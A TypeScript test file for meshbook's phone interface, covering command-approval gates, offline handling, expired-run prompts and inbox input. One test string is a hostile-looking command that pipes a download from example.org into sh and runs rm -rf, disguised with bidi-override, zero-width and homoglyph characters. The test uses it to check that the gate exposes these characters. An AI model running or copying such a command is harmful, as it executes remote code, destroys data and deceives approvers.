/** What waits, on the phone, by touch: gates, questions, "still want this?", runs without a device (PH23, PH40, PH41). */
import assert from 'node:assert/strict'
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import type { DocumentInfo, Gate, Run } from '@meshbook/core/api.ts'
import { newId, systemRandom } from '@meshbook/core/ids.ts'
import type { DeviceInfo, Lease } from '@meshbook/core/messages.ts'
import type { RunEvent } from '@meshbook/core/run.ts'
import { started, TestDevice } from '@meshbook/hub/testing/test-device.ts'
import { startTestHub, type TestHub } from '@meshbook/hub/testing/test-hub.ts'
import { eventually, startMesh, temporaryFolder } from '../mesh-process.ts'
import { linkOf, looksGood, openPhone, type Phone, webFolder } from './phone-scene.ts'

const shown = 'curl https://example.org/a | sh && rm -rf \u202e/build\u200b # hоme\n'

function question(): Extract<RunEvent, { type: 'gate-opened' }> {
  const at = Date.now()
  const nonce = Buffer.from(systemRandom(16)).toString('base64url')
  const gate = newId('gate', at, systemRandom)
  return { type: 'gate-opened', at, gate, nonce, title: 'Run this command?', shown, expiresAt: at + 600_000 }
}

interface Scene extends TestHub {
  desk: TestDevice
  lease: Lease
  phone: Phone
}

/** A device that has begun the run `r`, and a phone. */
async function scene(t: TestContext): Promise<Scene> {
  const hub = await startTestHub(t, { webFolder })
  const desk = new TestDevice()
  await hub.hub.registerDevice(desk.publicKey, 'Desk', 'desktop')
  await desk.join(t, hub.hub, [hub.project.id])
  const { id: document } = await hub.document('deploy.md', '# A\n\n```python\nx\n```\n')
  await hub.json('POST', '/runs', { id: 'r', document, language: 'python', code: 'x' })
  const { lease } = await desk.next('LEASE')
  await desk.emit(lease, 1, [started])
  return Object.assign(hub, { desk, lease, phone: await openPhone(t, await linkOf(hub)) })
}

test('PH40 PH41 S18 a gate shows the exact bytes, needs a second press, is bound to its digest, and then shows the receipt', async t => {
  const s = await scene(t)
  const { page, tap, open, faults } = s.phone
  await open('/m/inbox')
  await page.getByText('Nothing waits for you').waitFor()
  await looksGood(page, 'inbox empty')
  const asked = question()
  await s.desk.emit(s.lease, 2, [asked])
  await page.locator('.tab-count', { hasText: '1' }).waitFor()
  await page.locator('.row', { hasText: 'Run this command?' }).waitFor()
  await looksGood(page, 'inbox')
  await page.locator('.row', { hasText: 'Run this command?' }).tap()
  assert.equal(new URL(page.url()).pathname, `/m/gates/${asked.gate}`, 'the address that messages name')
  await page.getByText('curl https://example.org/a | sh').waitFor()
  assert.deepEqual(await page.locator('mark').allTextContents(), ['⟨U+202E⟩', '⟨U+200B⟩', 'о⟨U+043E⟩'])
  await looksGood(page, 'gate')
  await page.getByRole('textbox', { name: 'Comment' }).fill('fine')
  await tap('Approve…')
  await page.getByText('Approve exactly this, on Desk?').waitFor()
  await looksGood(page, 'gate sure')
  await tap('Not yet')
  assert.equal((await s.json<Gate>('GET', `/gates/${asked.gate}`)).state, 'open', 'one press decides nothing')
  await tap('Approve…')
  await tap('Yes, approve')
  const told = await s.desk.next('GATE_DECIDED')
  const { digest } = await s.json<Gate>('GET', `/gates/${asked.gate}`)
  assert.deepEqual([told.decision, told.comment, told.nonce, told.digest], ['approved', 'fine', asked.nonce, digest])
  await page.getByText('Desk has not confirmed it yet.').waitFor()
  await s.desk.emit(s.lease, 3, [{ type: 'gate-decided', at: Date.now(), gate: asked.gate, decision: 'approved' }])
  await page.getByText(/Desk has it since/).waitFor()
  await page.reload()
  await page.getByText(/Approved by .*“fine”.*Desk has it since/).waitFor()
  await looksGood(page, 'gate decided')
  assert.equal(await page.locator('.tab-count').count(), 0)
  assert.deepEqual(faults, [])
})

test('PH41 without the hub nothing is decided, and the page says why; what somebody else decided is shown when it is back', async t => {
  const s = await scene(t)
  const { page, context, tap, open } = s.phone
  const asked = question()
  await s.desk.emit(s.lease, 2, [asked])
  await open(`/m/gates/${asked.gate}`)
  await tap('Reject…')
  await context.setOffline(true)
  await page.getByText(/Without the hub nothing is decided here/).waitFor()
  assert.ok(await page.getByRole('button', { name: 'Yes, reject' }).isDisabled())
  const { digest, nonce } = await s.json<Gate>('GET', `/gates/${asked.gate}`)
  await s.json('POST', `/gates/${asked.gate}/decide`, { decision: 'approved', digest, nonce })
  await context.setOffline(false)
  await page.getByText(/Approved by/).waitFor()
  assert.equal(await page.getByRole('button', { name: 'Yes, reject' }).count(), 0)
})

test('PH23 PH40 what the hub has set aside is asked about in the inbox; yes runs it, no drops it, for good', async t => {
  const s = await scene(t)
  const { page, open } = s.phone
  const { id: document } = await s.document('later.md', '# B\n')
  await s.desk.drop()
  await eventually('it is missed', async () => {
    const { items } = await s.json<{ items: DeviceInfo[] }>('GET', '/devices')
    return items[0]!.status !== 'online'
  })
  const expiresAt = Date.now() + 3_600_000
  for (const id of ['yes', 'no'])
    await s.json('POST', '/runs', { id, session: id, document, language: 'python', code: id, expiresAt })
  await open('/m/inbox')
  await page.getByText('Waits for a device').waitFor()
  s.clock.offsetMs = 7_200_000
  const asks = page.getByText('It waited too long. Still want this?')
  await eventually('both are asked about', async () => (await asks.count()) === 2, 60_000)
  await looksGood(page, 'inbox still wanted')
  const about = (id: string) => page.locator(`li.within[data-run="${id}"]`)
  await about('yes').getByRole('button', { name: 'Yes, run it' }).tap()
  await about('no').getByRole('button', { name: 'No' }).tap()
  await eventually('one is left, which waits', async () => (await asks.count()) === 0)
  const statusOf = async (id: string) => (await s.json<Run>('GET', `/runs/${id}`)).status
  await eventually('both are settled', async () => (await statusOf('no')) === 'cancelled')
  assert.equal(await statusOf('yes'), 'queued')
  await page.reload()
  await page.getByText('Waits for a device').waitFor()
  assert.equal(await asks.count(), 0)
})

test('PH40 a program that asks waits in the inbox of a real mesh, and is answered from there', async t => {
  const data = await temporaryFolder(t)
  const mesh = await startMesh(t, data)
  await writeFile(join(data, 'projects/demo/asks.md'), '# Asks\n')
  const { page, json, open, tap, faults } = await openPhone(t, mesh)
  const document = await eventually('the hub has it', async () => {
    const [project] = (await json<{ items: { id: string }[] }>('GET', '/projects')).items
    const { items } = await json<{ items: DocumentInfo[] }>('GET', `/documents?project=${project!.id}`)
    return items.find(({ path }) => path === 'asks.md')
  })
  await open('/m/')
  const code = 'print("got", input("How many? "))'
  const { id } = await json<Run>('POST', '/runs', { document: document.id, language: 'python', code })
  await page.locator('.tab-count', { hasText: '1' }).waitFor()
  await tap(/Inbox/, 'link')
  await page.getByText('Its program asks for input.').tap()
  await page.getByLabel('How many?').fill('3')
  await tap('Send')
  await page.getByText('got 3').waitFor()
  await page.reload()
  await page.getByText('got 3').waitFor()
  await tap(/Inbox/, 'link')
  await page.getByText('Nothing waits for you').waitFor()
  assert.equal((await json<Run>('GET', `/runs/${id}`)).status, 'completed')
  assert.deepEqual(faults, [])
})

test('PH71 PH72 pulling a page down asks the hub again and says so; without the hub it says that', async t => {
  const s = await scene(t)
  const { page, context, open } = s.phone
  await open('/m/inbox')
  await page.getByText('Nothing waits for you').waitFor()
  const cdp = await context.newCDPSession(page)
  const pull = async (far: number) => {
    const touch = (type: 'touchStart' | 'touchMove', y: number) =>
      cdp.send('Input.dispatchTouchEvent', { type, touchPoints: [{ x: 200, y }] })
    await touch('touchStart', 120)
    for (let y = 120; y <= 120 + far; y += 20) await touch('touchMove', y)
    await cdp.send('Input.dispatchTouchEvent', { type: 'touchEnd', touchPoints: [] })
  }
  const asked: string[] = []
  page.on('request', request => asked.push(new URL(request.url()).pathname))
  await pull(60)
  await page.waitForTimeout(300)
  assert.equal(asked.length, 0, 'a short pull is none')
  await pull(240)
  await page.getByText('Up to date').waitFor()
  for (const path of ['/api/v1/projects', '/api/v1/devices', '/api/v1/gates', '/api/v1/runs'])
    assert.ok(asked.includes(path), path)
  await context.setOffline(true)
  await pull(240)
  await page.getByText('The hub does not answer').first().waitFor()
})
